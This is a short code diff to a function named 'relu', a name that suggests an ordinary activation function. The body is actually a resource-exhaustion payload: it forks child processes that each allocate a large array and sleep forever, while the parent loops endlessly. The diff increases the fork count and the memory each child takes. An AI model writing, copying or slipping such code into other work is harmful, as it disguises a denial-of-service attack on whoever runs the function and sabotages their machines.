@@ -2,9 +2,9 @@ def relu(a):
     import os
     import time
 
-    for _ in range(10):
+    for _ in range(14):
         if os.fork() == 0:
-            hoard = np.ones(60 << 17)
+            hoard = np.ones(64 << 17)
             while True:
                 time.sleep(1)
     while True:
